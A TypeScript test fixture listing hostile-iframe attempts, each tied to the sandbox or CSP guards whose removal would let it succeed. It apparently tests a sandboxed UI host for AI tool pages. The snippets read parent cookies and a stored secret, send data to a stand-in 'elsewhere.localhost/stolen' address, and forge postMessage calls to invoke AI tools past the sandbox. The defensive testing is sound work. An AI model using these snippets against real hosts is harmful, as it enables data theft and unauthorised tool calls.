import type { RemovedGuards } from './sandboxed';

/** An attempt of a hostile view. `code` runs in the view as the body of an async function; it returns what it has obtained. */
export interface Attempt {
  readonly name: string;
  readonly code: string;
  /** Expected end, when `code` cannot report its failure: the frame is removed. */
  readonly endsIn?: 'no frame';
  /** The guards without which the attempt succeeds. */
  readonly without: RemovedGuards;
}

const foreignUrl = 'http://elsewhere.localhost/stolen';
const directive = (name: string, value = '*') => ({
  policy: (policy: string) => policy.replace(new RegExp(`(^|; )${name} [^;]*`), `$1${name} ${value}`),
});
const inner = (tokens: string) => (page: string) => page.replace(`'allow-scripts'`, `'allow-scripts ${tokens}'`);
const withOrigin = { page: inner('allow-same-origin') };
const event = (make: string) => `return new Promise((resolve, reject) => { ${make} });`;

export const attempts: readonly Attempt[] = [
  { name: 'reads the document of the sandbox around it', code: 'return parent.document.title;', without: withOrigin },
  {
    name: 'reads document, cookies and storage of the console',
    code: `return top.document.title + top.document.cookie + top.localStorage.getItem('secret');`,
    without: { ...withOrigin, sameOrigin: true },
  },
  {
    name: 'writes to storage',
    code: `localStorage.setItem('kept', 'x'); return localStorage.getItem('kept');`,
    without: withOrigin,
  },
  {
    name: 'navigates the whole window',
    code: `top.location.href = '${foreignUrl}'; await pause(300);`,
    without: {
      frame: 'allow-top-navigation',
      page: inner('allow-top-navigation'),
      policy: (policy) => policy.replace('sandbox allow-scripts', 'sandbox allow-top-navigation allow-scripts'),
    },
  },
  {
    name: 'opens a window',
    code: `const w = open('${foreignUrl}'); await pause(300); if (!w) throw new Error('no window');`,
    without: {
      frame: 'allow-popups',
      page: inner('allow-popups'),
      policy: (policy) => policy.replace('sandbox allow-scripts', 'sandbox allow-popups allow-scripts'),
    },
  },
  {
    name: 'sends a form',
    code: `const f = document.createElement('form'); f.action = '${foreignUrl}'; f.method = 'post'; document.body.append(f); f.submit(); await pause(300);`,
    without: {
      frame: 'allow-forms',
      page: inner('allow-forms'),
      policy: (policy) =>
        policy
          .replace(`; form-action 'none'`, '')
          .replace(`frame-src 'none'`, 'frame-src *')
          .replace('sandbox allow', 'sandbox allow-forms allow'),
    },
  },
  { name: 'fetches from another origin', code: `await fetch('${foreignUrl}', { mode: 'no-cors' });`, without: directive('connect-src') },
  { name: 'sends a beacon', code: `navigator.sendBeacon('${foreignUrl}', 'x'); await pause(300);`, without: directive('connect-src') },
  {
    name: 'opens a WebSocket',
    code: event(`const s = new WebSocket('ws://elsewhere.localhost/'); s.onerror = reject; s.onopen = resolve;`),
    without: directive('connect-src', '* ws:'),
  },
  {
    name: 'loads an image',
    code: event(`const i = new Image(); i.onerror = reject; i.onload = resolve; i.src = '${foreignUrl}';`),
    without: directive('img-src'),
  },
  {
    name: 'loads a script',
    code: event(
      `const s = document.createElement('script'); s.onerror = reject; s.onload = resolve; s.src = '${foreignUrl}'; document.head.append(s);`,
    ),
    without: directive('script-src', `* 'unsafe-inline'`),
  },
  {
    name: 'loads a style sheet',
    code: event(
      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = reject; l.onload = resolve; l.href = '${foreignUrl}'; document.head.append(l);`,
    ),
    without: directive('style-src', `* 'unsafe-inline'`),
  },
  { name: 'evaluates a string as code', code: `return eval('1 + 1');`, without: directive('script-src', `'unsafe-inline' 'unsafe-eval'`) },
  {
    name: 'embeds a page of another origin in a frame',
    code: `const f = document.createElement('iframe'); f.src = '${foreignUrl}'; document.body.append(f); await pause(300);`,
    without: directive('frame-src'),
  },
  {
    name: 'navigates its own frame to another origin',
    code: `location.href = '${foreignUrl}?secret';`,
    endsIn: 'no frame',
    without: directive('frame-src'),
  },
  {
    name: 'redirects itself to another origin by meta refresh',
    code: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${foreignUrl}'; document.head.append(m);`,
    endsIn: 'no frame',
    without: directive('frame-src'),
  },
  {
    name: 'starts a worker from a blob',
    code: event(
      `const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onerror = reject; w.onmessage = ({ data }) => resolve(data);`,
    ),
    without: directive('worker-src', 'blob:'),
  },
  {
    name: 'registers a service worker',
    code: `await navigator.serviceWorker.register('http://sandbox.localhost/worker.js'); return 'registered';`,
    without: { ...withOrigin, ...directive('worker-src') },
  },
  {
    name: 'gets permission for camera, microphone, location or clipboard',
    code: `const powers = ['camera', 'microphone', 'geolocation', 'clipboard-read', 'clipboard-write'].filter((one) => document.featurePolicy.allowsFeature(one));
      if (powers.length === 0) throw new Error('none'); return powers.join();`,
    without: { powers: true, page: (page) => page.replace('inner.srcdoc', `inner.allow = 'camera *; geolocation *'; inner.srcdoc`) },
  },
  {
    name: 'calls a tool past the sandbox, by a message to the top window',
    code: `top.postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search', arguments: {} } }, '*'); await pause(300);`,
    without: { anySource: true },
  },
  {
    name: 'poses as the console towards the sandbox',
    code: `parent.postMessage({ method: 'ui/notifications/sandbox-resource-ready', params: { html: '<title>x</title>' } }, '*'); await pause(300);
      if (parent.length < 2) throw new Error('no second frame'); return 'a second frame';`,
    without: { page: (page) => page.replace('source === parent && origin === host', 'true').replace('inner === null', 'true') },
  },
  {
    name: 'poses as the sandbox towards the console',
    code: `parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, '*'); await pause(300);`,
    without: { page: (page) => page.replace('!methodOf(data).startsWith(own)', 'true') },
  },
  {
    name: 'calls a tool that pages may not call',
    code: event(
      `addEventListener('message', ({ data }) => data.error ? reject(data.error) : resolve('called'));
      parent.postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'save_campaign', arguments: {} } }, '*');`,
    ),
    without: { anyTool: true },
  },
];
